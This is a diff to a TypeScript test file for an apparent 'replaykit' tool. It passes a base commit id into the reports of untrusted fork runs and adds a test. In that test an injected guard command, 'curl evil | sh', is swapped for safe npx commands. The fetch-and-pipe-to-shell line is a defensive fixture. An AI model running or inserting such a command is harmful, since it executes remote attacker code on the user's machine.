@@ -7,6 +7,7 @@ import { buildReport } from "../../../src/core/verdict/suite/summary.ts";
 import { failOn, sampleResult } from "./sample.ts";
 
 const fixed = sampleResult({ verdict: "fixed", standing: "newly-fixed", blocks: false });
+const base = "0123456789ab";
 const against: AgainstBase = {
   base: "@octocat",
   cases: 1,
@@ -16,7 +17,7 @@ const against: AgainstBase = {
 };
 
 function shown(report: ReplayReport) {
-  const { summary, ...rest } = untrustedReport(report);
+  const { summary, ...rest } = untrustedReport(report, { base });
   return { ok: summary.ok, headline: summary.headline, ...verdictLine({ summary, ...rest }) };
 }
 
@@ -41,9 +42,18 @@ describe("a fork's run has the same verdict in its comment", () => {
   });
 
   it("if it had no sandbox, whose reason is not repeated", () => {
-    const report = untrustedReport(buildReport([fixed], failOn, { not_sandboxed: "@octocat" }));
+    const report = untrustedReport(buildReport([fixed], failOn, { not_sandboxed: "@octocat" }), { base });
     expect(verdictLine(report).words).toMatch(/Not sandboxed\.$/);
     expect(report.summary.not_sandboxed).toBe("that run had no sandbox");
-    expect(verdictLine(untrustedReport(buildReport([fixed], failOn))).words).not.toContain("sandboxed");
+    expect(verdictLine(untrustedReport(buildReport([fixed], failOn), { base })).words).not.toContain("sandboxed");
   });
+});
+
+it("names commands that work when pasted: a fix on a live model is proven beside the base", () => {
+  const live = { ...fixed, live_model: true, commands: { ...fixed.commands, guard: "curl evil | sh" } };
+  const { cases } = untrustedReport(buildReport([fixed, live], failOn), { base });
+  expect(cases.map(({ commands }) => commands.guard)).toEqual([
+    "npx replaykit guard search-loop",
+    "npx replaykit guard search-loop --base 0123456789ab",
+  ]);
 });
